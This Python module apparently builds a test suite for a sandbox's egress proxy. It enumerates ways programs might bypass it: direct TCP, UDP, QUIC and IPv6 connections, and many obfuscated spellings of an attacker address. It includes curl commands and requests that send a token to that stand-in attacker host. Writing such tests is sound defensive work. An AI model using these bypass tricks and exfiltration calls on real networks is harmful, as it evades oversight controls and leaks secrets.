"""Programs that ignore the proxy: addresses of both families, in any spelling, by any protocol and port."""

from __future__ import annotations

import ipaddress

from ..places import ADDRESSES
from .table import Case, case

TCP_PORTS = (21, 22, 23, 25, 53, 80, 110, 143, 389, 443, 445, 465, 587, 853, 993, 1080, 1194, 1433, 1723, 3128, 3306, 3333, 3389, 4444, 5000, 5222,
             5432, 6379, 6443, 6667, 8080, 8443, 8883, 9001, 9050, 9418, 11211, 14444, 27017, 65535)  # fmt: skip
UDP = {
    53: "dns", 69: "tftp", 123: "ntp", 161: "snmp", 443: "token", 500: "token", 514: "token", 853: "dtls", 1194: "token", 1701: "token",
    1900: "ssdp", 3478: "stun", 4500: "token", 4789: "token", 5060: "token", 5353: "dns", 51820: "wireguard", 60001: "large",
}  # fmt: skip
QUIC = ("quic", "quic-draft", "quic-short", "gquic")
PLACES = ("attacker", "cdn", "internal", "metadata", "doh", "nameserver")

_address = int(ipaddress.ip_address(ADDRESSES["attacker"]))
_a, _b, _c, _d = ADDRESSES["attacker"].split(".")
SPELLINGS = {
    "dotted": ADDRESSES["attacker"],
    "decimal": str(_address),
    "hex": hex(_address),
    "HEX": f"0X{_address:X}",
    "octal": f"0{_address:o}",
    "hex parts": ".".join(hex(int(p)) for p in (_a, _b, _c, _d)),
    "octal parts": ".".join(f"0{int(p):o}" for p in (_a, _b, _c, _d)),
    "octal parts with zeros": ".".join(f"000{int(p):o}" for p in (_a, _b, _c, _d)),
    "mixed parts": f"{int(_a):#x}.0{int(_b):o}.{_c}.{_d}",
    "three parts": f"{_a}.{_b}.{int(_c) * 256 + int(_d)}",
    "two parts": f"{_a}.{_address & 0xFFFFFF}",
    "trailing dot": f"{_a}.{_b}.{_c}.{_d}.",
    "full width": ADDRESSES["attacker"].translate({ord(str(d)): chr(0xFF10 + d) for d in range(10)}).encode().decode("latin-1"),
    "ideographic stops": ADDRESSES["attacker"].replace(".", "\u3002").encode().decode("latin-1"),
    "circled": "①98.51.100.66".encode().decode("latin-1"),
    "per cent": ADDRESSES["attacker"].replace(".", "%2e"),
    "after a listed name": f"cdn.example@{ADDRESSES['attacker']}",
    "after a listed name and port": f"cdn.example:443@{ADDRESSES['attacker']}",
}
MAPPED = {
    "mapped": f"::ffff:{ADDRESSES['attacker']}",
    "mapped in hex": f"::ffff:{_address >> 16:x}:{_address & 0xFFFF:x}",
    "mapped, written out": f"0:0:0:0:0:ffff:{_address >> 16:x}:{_address & 0xFFFF:x}",
    "IPv6": "2001:db8:66::66",
}
NO_IPV6 = {"gvisor": "gVisor takes its addresses when it starts, and the network has none of IPv6; the same is shown as frames"}


def cases() -> list[Case]:
    direct, udp, six = "direct IPv4", "direct UDP", "direct IPv6"
    found = [
        case(direct, f"TCP {port} of the attacker", "stream", dial=f"{{attacker}}:{port}", send="{token}\n", **({} if port != 80 else {"http": "{attacker}"}))
        for port in TCP_PORTS
    ]
    for place in PLACES[1:]:
        found.append(case(direct, f"HTTP of {place} by address", "stream", dial=f"{{{place}}}:80", http=f"{{{place}}}"))
        found.append(case(direct, f"TLS of {place} by address", "stream", dial=f"{{{place}}}:443", tls="stranger.example", http="stranger.example"))
        found.append(case(direct, f"TCP 9100 of {place}", "stream", dial=f"{{{place}}}:9100", send="{token}\n"))
    found += [
        case(direct, "another port of the listed address", "stream", dial="{listed}:22", send="{token}\n"),
        case(direct, "HTTP of the listed address, which is listed for TLS", "stream", dial="{listed}:80", http="{listed}"),
        case(direct, "another port of a listed name's address", "stream", dial="{allowed}:8080", http="allowed.example"),
        case(direct, "the raw port of a wildcard by a name that it does not cover", "stream", dial="{cdn}:2222", send="{token}\n"),
        case(direct, "a low source port", "stream", dial="{attacker}:443", source_port=20, send="{token}\n"),
        case(direct, "HTTP with a listed Host", "stream", dial="{attacker}:80", http="cdn.example"),
    ]
    found += [case(udp, f"UDP {port} of the attacker, {form}", "datagram", to=f"{{attacker}}:{port}", form=form) for port, form in UDP.items()]
    found += [case(udp, f"UDP 9999 of {place}", "datagram", to=f"{{{place}}}:9999") for place in PLACES[1:]]
    found += [
        case(udp, "another UDP port of the listed address", "datagram", to="{listed}:9998"),
        case(udp, "UDP to the TCP port of the listed address", "datagram", to="{listed}:443"),
        case(udp, "UDP 2222 of a listed name's address", "datagram", to="{allowed}:2222"),
        case(udp, "from port 53", "datagram", to="{attacker}:40000", source_port=53),
        case(udp, "from port 443", "datagram", to="{attacker}:40001", source_port=443),
        case(udp, "a broadcast", "datagram", to="255.255.255.255:7946"),
        case(udp, "a broadcast of the subnet", "datagram", to="{broadcast}:7946"),
        case(udp, "multicast DNS", "datagram", to="224.0.0.251:5353", form="dns"),
        case(udp, "LLMNR", "datagram", to="224.0.0.252:5355", form="dns"),
        case(udp, "SSDP", "datagram", to="239.255.255.250:1900", form="ssdp"),
    ]
    for form in QUIC:
        found += [case("QUIC", f"{form} to {place}", "datagram", to=f"{{{place}}}:443", form=form) for place in ("attacker", "cdn", "allowed", "doh")]
    found += [case("QUIC", f"quic to UDP {port}", "datagram", to=f"{{cdn}}:{port}", form="quic") for port in (80, 8443, 784, 8853)]
    for port in (22, 53, 80, 443, 853, 8443):
        found.append(case(six, f"TCP {port}", "stream", dial=f"[{{attacker6}}]:{port}", send="{token}\n", unshown=NO_IPV6))
    for port, form in ((53, "dns"), (443, "quic"), (123, "ntp"), (9999, "token")):
        found.append(case(six, f"UDP {port}, {form}", "datagram", to=f"[{{attacker6}}]:{port}", form=form, unshown=NO_IPV6))
    found += [
        case(six, "TLS of a listed name's address", "stream", dial="[{allowed6}]:443", tls="{token}.attacker.example", http="x", unshown=NO_IPV6),
        case(six, "TLS of a private address", "stream", dial="[{internal6}]:443", tls="internal.example", http="internal.example", unshown=NO_IPV6),
        case(six, "the node by its bridge address", "reach", dial="[{gateway6}]:7946", sign="connected", unshown=NO_IPV6),
        case(six, "the node by its link-local address", "reach", dial="[{link6}%eth0]:7946", sign="connected", unshown=NO_IPV6),
        case(six, "another host of the platform", "reach", dial="[{control6}]:7946", sign="connected", unshown=NO_IPV6),
        case(six, "a name with AAAA", "dns", name="{token}.attacker.example", kind="AAAA"),
    ]
    proxy = "{gw}:3128"
    for spelling, text in {**SPELLINGS, **{k: f"[{v}]" for k, v in MAPPED.items()}}.items():
        family = "encodings of addresses"
        found.append(case(family, f"CONNECT, {spelling}", "stream", dial=proxy, connect=f"{text}:443", tls="cdn.example", http="cdn.example"))
        found.append(case(family, f"absolute URL, {spelling}", "stream", dial=proxy, send=f"GET http://{text}/{{token}} HTTP/1.1\r\nHost: {text}\r\n\r\n"))
    for spelling in ("decimal", "hex", "octal parts", "two parts"):
        found.append(case("encodings of addresses", f"curl without a proxy, {spelling}", "tool",
                          argv=["curl", "-sk", "--max-time", "4", f"https://{SPELLINGS[spelling]}/{{token}}"]))  # fmt: skip
    found.append(case("encodings of addresses", "curl without a proxy, mapped", "tool",
                      argv=["curl", "-skg", "--max-time", "4", f"https://[{MAPPED['mapped']}]/{{token}}"],
                      unshown={"gvisor": NO_IPV6["gvisor"]}))  # fmt: skip
    return found
